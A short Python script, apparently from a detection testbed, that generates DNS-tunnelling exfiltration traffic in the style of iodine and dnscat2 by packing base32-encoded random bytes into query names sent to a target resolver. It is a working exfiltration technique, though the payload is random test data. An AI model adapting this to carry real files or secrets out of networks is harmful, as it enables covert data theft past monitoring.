"""Carry data out in the names of DNS questions, as iodine and dnscat2 do: a question for each piece."""

import base64
import contextlib
import socket

from testbed.second_home import dns
from testbed.second_home.tools.bounds import arguments, rounds
from testbed.second_home.world import TUNNEL


def main() -> None:
    """Carry; each question from a port of its own (--how apart) or some from one (--how together)."""
    options = arguments(__doc__, "how")
    carrying: socket.socket | None = None
    for number, draw in enumerate(rounds(options)):
        if carrying is None or options.how != "together" or draw.random() < 0.15:
            if carrying is not None:
                carrying.close()
            carrying = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            carrying.settimeout(1.5)
        piece = base64.b32encode(draw.randbytes(draw.randint(20, 100))).decode().rstrip("=").lower()
        labels = [piece[at : at + 60] for at in range(0, len(piece), 60)]
        name = ".".join((*labels, f"{number:04x}", TUNNEL))
        with contextlib.suppress(OSError):
            carrying.sendto(dns.query(number + 1, name, draw.choice((dns.TXT, dns.TXT, dns.A))), (options.target, 53))
            carrying.recv(2048)


if __name__ == "__main__":
    main()
